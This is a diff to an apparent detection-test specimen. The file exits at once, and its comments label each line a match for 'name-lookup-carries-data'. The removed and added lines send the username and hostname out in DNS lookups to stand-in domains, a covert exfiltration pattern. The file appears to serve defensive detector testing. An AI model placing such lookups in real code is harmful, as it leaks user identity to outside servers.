@@ -1,6 +1,5 @@
 raise SystemExit("specimen: not to be run")
-import os
+import getpass
 import socket
-host = socket.gethostname()
-socket.gethostbyname(host + ".specimen.example.com")  # match: name-lookup-carries-data
-socket.getaddrinfo(f"{os.getlogin()}.{host}.example.invalid", 80)  # match: name-lookup-carries-data
+
+socket.gethostbyname(getpass.getuser() + ".specimen.example.com")  # match: name-lookup-carries-data
